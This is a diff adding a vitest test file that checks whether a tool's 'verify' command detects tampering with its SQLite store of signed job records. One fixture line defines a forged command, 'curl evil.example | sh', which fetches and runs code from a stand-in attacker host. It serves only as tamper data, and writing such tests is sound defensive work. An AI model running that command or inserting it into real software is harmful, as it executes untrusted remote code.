@@ -1,0 +1,91 @@
+import Database from 'better-sqlite3';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import type { Rig } from '../support/rig.js';
+import { INPUTS, tinyRig } from './fixture.js';
+
+/**
+ * What `lineage`, `why` and `diff` show of a job comes from the store's
+ * database, not from its envelope: `verify` must fail when that is not what
+ * the job's signed statement says, naming the job and what differs.
+ */
+describe("verify checks the store's record of each job against its signed statement", () => {
+  let rig: Rig;
+  beforeEach(async () => {
+    rig = tinyRig();
+    expect((await rig.shark(['keygen', '-o', 'shark'])).code).toBe(0);
+    const ran = await rig.shark(['run', 'p.md', ...INPUTS, '--sign', 'shark.key']);
+    expect(ran.code, ran.stderr).toBe(0);
+  });
+  afterEach(() => rig.cleanup());
+
+  const sql = (statement: string): void => {
+    const db = new Database(rig.path('.shark/shark.sqlite'));
+    try {
+      db.exec(statement);
+    } finally {
+      db.close();
+    }
+  };
+  const verify = (): Promise<{ code: number | null; stdout: string; stderr: string }> =>
+    rig.shark(['verify', 'p.md', '/data/report.txt', '--key', 'shark.pub']);
+  const TRUE = 'cat * /data/upper.txt';
+  const FORGED = 'curl evil.example | sh';
+  /** SQL replacing the report's command in columns `columns` of its result. */
+  const forge = (...columns: string[]): string =>
+    `UPDATE results SET ${columns.map((c) => `${c} = replace(${c}, '${TRUE}', '${FORGED}')`).join(', ')} WHERE meta LIKE '%"step":"report"%'`;
+
+  it('the untouched store verifies', async () => {
+    const ok = await verify();
+    expect(ok.stderr).toBe('');
+    expect(ok.code).toBe(0);
+  });
+
+  it('a command forged in the record and the shown text (what lineage prints) fails, naming the job and the command', async () => {
+    sql(forge('record', 'shown'));
+    const lineage = await rig.shark(['lineage', 'p.md', '/data/report.txt', '--depth', '0']);
+    expect(lineage.stdout).toContain(FORGED);
+    const ran = await verify();
+    expect(ran.code).toBe(1);
+    expect(ran.stdout).not.toContain('verified');
+    expect(ran.stderr).toMatch(/^report: its stored key record does not hash to its cache key [0-9a-f]{8}…/m);
+    expect(ran.stderr).toMatch(new RegExp(`^report: the command lineage shows is not the signed one: .*${FORGED.replace(/[|.]/g, '\\$&')}.*signed.*${TRUE.replace('*', '\\*')}`, 'm'));
+  });
+
+  it('the shown text alone forged fails', async () => {
+    sql(forge('shown'));
+    const ran = await verify();
+    expect(ran.code).toBe(1);
+    expect(ran.stderr).toMatch(/^report: the command lineage shows is not the signed one/m);
+    expect(ran.stderr).not.toContain('does not hash');
+  });
+
+  it("the record alone forged (what why and plan compare) fails, naming the record's command", async () => {
+    sql(forge('record'));
+    const ran = await verify();
+    expect(ran.code).toBe(1);
+    expect(ran.stderr).toMatch(/^report: its stored key record does not hash to its cache key/m);
+    expect(ran.stderr).toMatch(/^report: the command of its stored key record is not the signed one/m);
+  });
+
+  it('the metadata alone forged (what the exports show) fails', async () => {
+    sql(forge('meta'));
+    const ran = await verify();
+    expect(ran.code).toBe(1);
+    expect(ran.stderr).toMatch(/^report: the command of its stored result is not the signed one/m);
+  });
+
+  it('stored outputs pointed at other bytes (what a cached run reuses) fail, naming the path', async () => {
+    sql(`UPDATE results SET outputs = json_set(outputs, '$."/data/report.txt"',
+      (SELECT json_extract(outputs, '$."/data/upper.txt"') FROM results WHERE meta LIKE '%"step":"prepare"%')) WHERE meta LIKE '%"step":"report"%'`);
+    const ran = await verify();
+    expect(ran.code).toBe(1);
+    expect(ran.stderr).toMatch(/^report: lineage shows other outputs than its stored result \(\/data\/report\.txt: stored [0-9a-f]{8}…, shown [0-9a-f]{8}…\)$/m);
+  });
+
+  it("an ancestor's recorded input forged fails: the record no longer hashes to the key", async () => {
+    sql(`UPDATE results SET record = replace(record, '"/data/raw.txt"', '"/data/other.txt"') WHERE meta LIKE '%"step":"prepare"%'`);
+    const ran = await verify();
+    expect(ran.code).toBe(1);
+    expect(ran.stderr).toMatch(/^prepare: its stored key record does not hash to its cache key/m);
+  });
+});
